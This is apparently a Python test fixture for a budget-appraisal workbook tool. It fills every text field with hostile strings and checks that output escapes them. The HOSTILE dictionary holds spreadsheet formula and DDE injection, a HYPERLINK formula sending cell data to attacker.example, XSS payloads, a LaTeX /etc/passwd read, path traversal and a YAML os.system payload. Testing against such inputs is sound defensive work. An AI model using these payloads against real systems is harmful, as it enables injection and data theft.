"""Hostile texts, and a small book that holds one in every text field, each with a mark to find it by."""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass, replace
from typing import Any

from appraisal.ground.shared_nouns import Basis, BenefitClass, Grade, State
from appraisal.options.case import BodyKind, Change, FundingSource, Recurrence
from appraisal.options.rows.about_row import AboutRow
from appraisal.options.rows.body_row import BodyRow
from appraisal.options.rows.budget_row import BudgetLineRow
from appraisal.options.rows.demand_row import StepRow
from appraisal.options.rows.figure_rows import CostRow, ScenarioRow
from appraisal.options.rows.funding_row import FundingRow
from appraisal.options.rows.narrative_rows import (
    OF_AN_OPTION,
    After,
    GlossaryRow,
    Section,
    StatementRow,
)
from appraisal.options.rows.optimism_row import OptimismRow
from appraisal.options.rows.posts_row import PostsRow
from appraisal.options.rows.rate_row import YearlyRateRow
from appraisal.options.rows.register_rows import (
    AssuranceRow,
    BenefitRow,
    Characteristic,
    CommercialAspect,
    CommercialRow,
    ConsultationRow,
    DataRow,
    DecisionRow,
    Delegable,
    EqualityRow,
    FunctionRow,
    GateRow,
    Impact,
    ManagementAspect,
    ManagementRow,
    SignOffRow,
    SuccessFactorRow,
    Verdict,
)
from appraisal.options.rows.value_rows import GroupWeightRow, MarkRow, OptionRow, PanelRow
from appraisal.options.workbook import book_of
from appraisal.workbook import Book
from appraisal.workbook.book import Entries
from appraisal.workbook.schema import LONGEST_TITLE, AcceptedWarningRow, Cell, OwnSection, Shape
from appraisal.workbook.schema.columns import Listing
from tests.workbook.builders import small_book

HOSTILE = {
    "formula": "=1+1",
    "plus": "+44 20 7946 0000",
    "minus": "-2+3+cmd",
    "at": "@SUM(1+1)*cmd",
    "DDE": "=cmd|'/c calc'!A0",
    "link formula": '=HYPERLINK("https://attacker.example/?x="&A1,"Click")',
    "HTML tag": "</td></table><h1>Bold</h1><b>not bold</b>",
    "script": "</script><script>alert(1)</script>",
    "event attribute": '" onmouseover="alert(1)" x="<img src=x onerror=alert(1)>',
    "comment and entity": "<!-- hidden --> &lt;b&gt; &#x3c;i&#x3e; &amp;amp;",
    "markdown image": "![pixel](https://attacker.example/p.png)",
    "markdown link": "[click](javascript:alert(1)) <https://attacker.example>",
    "markdown blocks": "# Heading\n* item\n+ item\n1. one\n| a | b |\n|---|---|\n> quoted\n```\ncode",
    "Jinja": "{{7*7}}{% for x in y %}{# note #}",
    "Typst": '#import "@preview/x:1.0.0" #eval("1+1") #panic() $sum_i$ = Heading <label> @ref',
    "LaTeX": "\\input{/etc/passwd} \\write18{calc} ^^M %",
    "maths": "$x^2$ and $$\\frac{1}{2}$$ and \\(y\\)",
    "path": "../../etc/passwd",
    "Windows path": "C:\\Windows\\System32\\calc.exe \\\\server\\share",
    "long word": "W" * 300,
    "nothing": "null None NaN undefined #N/A 0x00 \\0",
    "CSV break-out": 'a","b\n=2+2,"c;d',
    "JSON break-out": '"}],"numbers":{"x":1}} </script> \\u0022',
    "YAML break-out": "---\n!!python/object/apply:os.system ['calc']\n&a *a : ] }",
    "terminal markup": "[red]not red[/red] [link=https://attacker.example]x[/link] <r><t>rich</t></r>",
}


def full_book() -> Book:
    """Return the small book with something in every sheet, an option not taken further and a line struck out."""
    rows: list[Any] = [row for entries in small_book().entries for row in entries.rows]
    rows = [replace(row, prices_rise_with="inflation") if isinstance(row, AboutRow) else row for row in rows]
    return book_of(
        *rows,
        *arrangements(),
        OptionRow(id="venture", name="Joint venture", listing=Listing.LONGLIST),
        SuccessFactorRow(option="trust", factor="Affordability", verdict=Verdict.CONDITIONAL),
        PanelRow(id="finance", name="Head of finance", criteria=("all",)),
        MarkRow(option="trust", criterion="reach", member="finance", value=60.0),
        GroupWeightRow(group="Staff", criterion="reach", weight=80.0),
        CostRow(id="vat", name="Tax", options=("trust",), state=State.DOES_NOT_APPLY),
        BudgetLineRow(id="plan", name="Saving in the plan", by_year=((2027, 50e3), (2028, 60e3))),
        BenefitRow(name="More visits", options=("all",), kind=BenefitClass.SOCIETAL),
        ScenarioRow(scenario="Hard times", name="cost:set-up", change=Change.MULTIPLY, figure=1.5),
        EqualityRow(option="trust", characteristic=Characteristic.AGE, impact=Impact.UNKNOWN),
        ConsultationRow(who="Staff"),
        GateRow(id="transfer", name="Staff transfer", options=("trust",), verdict=Verdict.PASS),
        FunctionRow(name="Setting charges", delegable=Delegable.NO, options=("venture",), reason="The law says so."),
        CommercialRow(aspect=CommercialAspect.ROUTE, options=("trust",), text="An open competition."),
        ManagementRow(aspect=ManagementAspect.GOVERNANCE, text="A board meets."),
        DecisionRow(decision="Drop the venture."),
        DataRow(name="Visits by month"),
        AssuranceRow(check="Lines against the budget book"),
        SignOffRow(role="Section 151 officer"),
        GlossaryRow(term="MTFS"),
        AcceptedWarningRow(warning="hidden-sheet: Risks"),
    )


def arrangements() -> list[Any]:
    """Return rows of what a line may hang on: paths, a pathway, posts, optimism, funding and bodies."""
    growth = tuple((year, 2.0) for year in range(2027, 2031))
    certain: dict[str, Any] = {"shape": Shape.FIXED, "grade": Grade.C}
    return [
        CostRow(id="depot", name="Depot", options=("trust",), likely=50e3, recurrence=Recurrence.ONE_OFF,
                starts="October 2026", optimism_class="standard buildings", **certain),
        CostRow(id="parcels", name="Parcels", options=("all",), likely=10.0, recurrence=Recurrence.RECURRENT,
                volume="readers", **certain),
        YearlyRateRow(id="ageing", name="Over 65s", by_year=growth, grade=Grade.C),
        YearlyRateRow(id="inflation", name="Prices", by_year=growth, grade=Grade.C),
        StepRow(id="readers", name="Readers", likely=1_000.0, growth="ageing", **certain),
        OptimismRow(id="design", name="Design", options=("trust",), kind="standard buildings", managed=0.5),
        PostsRow(id="drivers", name="Drivers", options=("reform",), posts=4.0, low=25e3, likely=28e3, high=30e3,
                 on_costs=0.3, vacancies=1.0, turnover=0.0, by_year=((2027, 2.0),), cost_low=6e3, cost=9e3,
                 cost_high=15e3, grade=Grade.C),
        FundingRow(id="grant", name="Grant", options=("trust",), lines=("depot",), paid_from=FundingSource.GRANT,
                   share=0.4, grade=Grade.C),
        BodyRow(id="the-trust", name="The trust", kind=BodyKind.PARTNER, options=("trust",), guarantee=20e3,
                grade=Grade.C),
    ]  # fmt: skip


# Fields whose text must be a month, the code of a path or a class: they hold one, and refuse all else.
_ONE_OF_SOME = {"About": ("prices_rise_with",), "Costs": ("starts", "optimism_class"), "Optimism": ("kind",)}


def text_fields(entries: Entries) -> list[str]:
    """Return the names of a sheet's fields that hold any text; the title of a section of the officer's own is none."""
    kept = _ONE_OF_SOME.get(entries.sheet.name, ())
    columns = entries.sheet.columns
    return [name for name, column in columns.items() if column.cell is Cell.TEXT and name not in kept]


# Fields that take few characters, or in which a sign says something: a tag alone stands there.
_ROOM = ("short_name", "unit")


@dataclass(frozen=True)
class Spread:
    """A book with a marked text in every text field. `texts` gives each by its mark, and `titles` those of sections of
    the officer's own; `strings` the name of each one's hostile string."""

    book: Book
    texts: dict[str, str]
    titles: dict[str, str]
    strings: dict[str, str]

    @property
    def printed(self) -> dict[str, str]:
        """Return all that a document may print, by its mark."""
        return self.texts | self.titles


def spread(change: Callable[[str], str]) -> Spread:
    """Return the full book with a hostile string, put through `change`, and a mark in every text field of every row.

    The narrative also gets a statement of its own for each string, one under each of its other sections, those of an
    option among them, and sections of the officer's own, one for each string that a heading takes.
    """
    texts: dict[str, str] = {}
    titles: dict[str, str] = {}
    strings: dict[str, str] = {}

    def next_text(field: str = "") -> str:
        name, string = list(HOSTILE.items())[len(texts) % len(HOSTILE)]
        mark = f"zq{len(texts):03}"
        whole = f"{change(string)} {mark}"
        texts[mark] = f"{mark} {change('<b>')}" if field in _ROOM else whole
        strings[mark] = name
        return texts[mark]

    rows: list[Any] = []
    for entries in full_book().entries:
        written_anew: list[Any] = list(entries.rows)
        rows += [replace(row, **{name: next_text(name) for name in text_fields(entries)}) for row in written_anew]
    for _ in HOSTILE:
        said, source = next_text(), next_text()
        rows.append(StatementRow(section=Section.BACKGROUND, text=said, basis=Basis.PUBLISHED, source=source))
    for section in (each for each in Section if each not in (Section.BACKGROUND, Section.OWN)):
        options = ("trust",) if section in OF_AN_OPTION else ()
        rows.append(StatementRow(section=section, options=options, text=next_text(), source=next_text()))
    for name, string in HOSTILE.items():
        mark = f"zt{len(titles):03}"
        title = f"{change(string)} {mark}"
        if len(title) <= LONGEST_TITLE and "\n" not in title:
            titles[mark], strings[mark] = title, name
            rows.append(
                StatementRow(section=OwnSection(title), after=After.MONEY, text=next_text(), source=next_text())
            )
    return Spread(book_of(*rows), texts, titles, strings)


def harmless(text: str) -> str:
    """Return a text as long, with as many words and lines, of letters and figures alone."""
    return re.sub(r"[^A-Za-z0-9\s]", "x", text)
